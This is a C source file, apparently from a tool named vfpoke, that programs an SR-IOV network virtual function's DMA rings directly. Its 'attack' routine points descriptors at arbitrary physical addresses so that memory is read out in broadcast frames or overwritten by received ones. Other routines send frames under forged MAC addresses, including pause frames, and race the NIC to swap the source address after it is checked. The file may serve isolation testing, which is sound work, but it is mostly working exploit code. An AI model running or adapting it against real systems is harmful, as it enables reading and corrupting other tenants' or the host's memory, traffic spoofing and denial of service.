// vfpoke's verbs that make the VF move bytes: to and from where it may not, in another's name, or differently from what
// was checked.
#include <inttypes.h>
#include <stdio.h>
#include <string.h>

#include "vf.h"

static const uint32_t kRxSplitOneBuffer = 1u << 25 | 1u << 28 | 2;  // advanced, drop when empty, 2 KiB
static const uint32_t kRxSplitKiB = 1u << 25 | 1u << 28 | 1;        // the same with buffers of 1 KiB
static const uint32_t kTxEnd = 1u << 24, kTxChecksum = 1u << 25, kTxReport = 1u << 27;
static const uint32_t kTxAdvanced = 1u << 29, kTxData = 3u << 20;
static const uint32_t kDone = 1;  // DD, in word 3 of a sent descriptor and in word 2 of a received one

enum { kSpare = kPage / 2 };  // of the ring's page: what the ring does not need

static void put_descriptor(volatile uint32_t* ring, int index, uint64_t address, uint32_t kind, uint32_t status) {
  ring[4 * index] = (uint32_t)address;
  ring[4 * index + 1] = (uint32_t)(address >> 32);
  ring[4 * index + 2] = kind;
  ring[4 * index + 3] = status;
}

static void put_send(volatile uint32_t* ring, int index, uint64_t address, uint32_t length, uint32_t whole, bool last) {
  put_descriptor(ring, index, address, length | kTxData | kTxAdvanced | kTxChecksum | (last ? kTxEnd | kTxReport : 0),
                 whole << 14);
}

static void put_header(uint8_t* header, const uint8_t to[6], const uint8_t from[6], uint32_t type) {
  memcpy(header, to, 6);
  memcpy(header + 6, from, 6);
  header[12] = (uint8_t)(type >> 8), header[13] = (uint8_t)type;
}

// A frame in two parts, so that nothing but its payload can be refused: a proper header of our own, then ADDRESS. It
// goes to everybody, with an EtherType for local experiments.
static uint32_t fill_read(volatile uint32_t* ring, uint64_t at, uint64_t address, const uint8_t mac[6], uint32_t length) {
  static const uint8_t kEverybody[6] = {0xff, 0xff, 0xff, 0xff, 0xff, 0xff};
  put_header((uint8_t*)ring + kSpare, kEverybody, mac, 0x88b5);
  put_send(ring, 0, at + kSpare, kHeaderBytes, kHeaderBytes + length, false);
  put_send(ring, 1, address, length, kHeaderBytes + length, true);
  return 2;
}

// `own`: every other buffer is ours and the smallest that there is, so that ADDRESS gets what a frame has beyond that.
static uint32_t fill_write(volatile uint32_t* ring, uint64_t at, uint64_t address, bool own) {
  for (int i = 0; i < kDescriptors; i++)
    put_descriptor(ring, i, own && i % 2 == 0 ? at + kSpare : address, 0, 0);
  return kDescriptors - 1;
}

struct kind {
  const char* name;
  bool transmit, foreign_ring;
};
static const struct kind kKinds[] = {{"tx-ring", true, true},
                                     {"rx-ring", false, true},
                                     {"tx-read", true, false},
                                     {"rx-write", false, false},
                                     {"rx-tail", false, false}};

struct outcome {
  bool stopped, started, quiet, alive;
  uint32_t head, control, moved;
  uint64_t ring;
};

// `address`: null for a page of our own.
static struct outcome attempt(const struct options* options, const struct kind* kind, const uint64_t* address) {
  struct outcome seen = {.alive = true};
  uint8_t mac[6] = {0};
  if (options->reset && !(seen.alive = reset_function(mac))) return seen;
  if (!options->reset || options->mac) parse_mac(options->mac, options->device, mac);
  const uint32_t at = (kind->transmit ? kTxRing : kRxRing) + options->queue * kQueueStride;
  const bool tail_only = strcmp(kind->name, "rx-tail") == 0;
  volatile uint32_t* ring = own_page(&seen.ring);
  const uint64_t target = address ? *address : seen.ring + kSpare;
  uint32_t tail = kDescriptors / 2;
  if (!kind->foreign_ring)
    tail = kind->transmit ? fill_read(ring, seen.ring, target, mac, options->length)
                          : fill_write(ring, seen.ring, target, tail_only);
  if (kind->foreign_ring) seen.ring = target;

  seen.stopped = stop_ring(at);
  if (!kind->transmit) put(at + kRxSplit, tail_only ? kRxSplitKiB : kRxSplitOneBuffer);
  seen.started = start_ring(at, seen.ring);
  put(at + kTail, tail);
  pause_ms(options->wait_ms);

  seen.head = get(at + kHead), seen.control = get(at + kControl);
  for (int i = tail_only; i < kDescriptors && !kind->foreign_ring; i += 1 + tail_only)
    seen.moved += ring[4 * i + (kind->transmit ? 3 : 2)] & kDone;
  if (kind->foreign_ring) seen.moved = seen.head < kDescriptors ? seen.head : 0;
  seen.quiet = stop_ring(at);
  return seen;
}

int attack(const struct options* options, const char* name, char** addresses, int count) {
  const struct kind* kind = NULL;
  for (size_t i = 0; i < sizeof kKinds / sizeof *kKinds; i++)
    if (strcmp(kKinds[i].name, name) == 0) kind = &kKinds[i];
  if (!kind) fail(2, "there is no attack '%s'", name);
  uint32_t moved = 0, tried = 0;
  bool quiet = true, alive = true;
  for (uint32_t round = 0; round < options->times; round++)
    for (int i = 0; i < count && alive; i++) {
      const bool own = strcmp(addresses[i], "own") == 0;
      const uint64_t address = own ? 0 : number(addresses[i], "the address", UINT64_MAX);
      const struct outcome seen = attempt(options, kind, own ? NULL : &address);
      if (!(alive = seen.alive)) break;
      tried++, moved += seen.moved, quiet = quiet && seen.quiet;
      printf("attack=%s address=0x%" PRIx64 " vf=%s queue=%" PRIu32 " ring=0x%" PRIx64, name, address, options->device,
             options->queue, seen.ring);
      printf(" stopped=%d started=%d still_enabled=%d head=%" PRIu32 " moved=%" PRIu32 "\n", seen.stopped, seen.started,
             !!(seen.control & kControlEnable), seen.head, seen.moved);
    }
  printf("alive=%d\ntried=%" PRIu32 "\nmoved=%" PRIu32 "\n", alive, tried, moved);
  if (!quiet) fail(1, "the ring does not stop; reset the VF before its memory is used again");
  return 0;
}

// A frame of our own memory, as often as asked for, under any addresses and type.
int send_frame(const struct options* options, const char* to, const char* from, const char* type) {
  uint8_t own[6] = {0}, destination[6], source[6];
  if (options->reset && !reset_function(own)) fail(1, "the PF does not answer a reset");
  parse_mac(to, options->device, destination);
  parse_mac(from, options->device, source);
  uint64_t at;
  volatile uint32_t* ring = own_page(&at);
  const uint32_t registers = kTxRing + options->queue * kQueueStride, length = kHeaderBytes + options->length;
  const uint32_t frames = options->times < kDescriptors ? options->times : kDescriptors - 1;
  put_header((uint8_t*)ring + kSpare, destination, source, (uint32_t)number(type, "the type", 0xffff));
  if (strcmp(type, "0x8808") == 0) memcpy((uint8_t*)ring + kSpare + kHeaderBytes, "\0\1\xff\xff", 4);  // pause
  for (uint32_t i = 0; i < frames; i++) put_send(ring, (int)i, at + kSpare, length, length, true);
  stop_ring(registers);
  start_ring(registers, at);
  put(registers + kTail, frames);
  pause_ms(options->wait_ms);
  printf("sent=%" PRIu32 "\n", get(registers + kHead));
  return stop_ring(registers) ? 0 : 1;
}

// The frame's source address changes to OTHER while the NIC has it, and back.
int race(const struct options* options, const char* other) {
  static const uint8_t kOutside[6] = {0x02, 0xff, 0, 0, 0, 0x01};
  uint8_t own[6] = {0}, foreign[6];
  if (!reset_function(own)) fail(1, "the PF does not answer a reset");
  parse_mac(other, options->device, foreign);
  uint64_t at;
  volatile uint32_t* ring = own_page(&at);
  volatile uint8_t* header = (volatile uint8_t*)ring + kSpare;
  const uint32_t registers = kTxRing + options->queue * kQueueStride;
  put_header((uint8_t*)ring + kSpare, kOutside, own, 0x88b6);
  for (int i = 0; i < kDescriptors; i++) put_send(ring, i, at + kSpare, 64, 64, true);
  start_ring(registers, at);
  uint32_t tail = 0, sent = 0;
  for (uint32_t round = 0; round < options->times; round++) {
    tail = (tail + kDescriptors / 2) % kDescriptors;
    put(registers + kTail, tail);
    for (int flips = 0; flips < 2000 && get(registers + kHead) != tail; flips++)
      for (int i = 0; i < 400; i++) header[11] = flips % 2 ? own[5] : foreign[5];
    header[11] = own[5];
    if (get(registers + kHead) != tail) break;
    sent += kDescriptors / 2;
    for (int i = 0; i < kDescriptors; i++) put_send(ring, i, at + kSpare, 64, 64, true);
  }
  printf("sent=%" PRIu32 "\n", sent);
  return stop_ring(registers) ? 0 : 1;
}
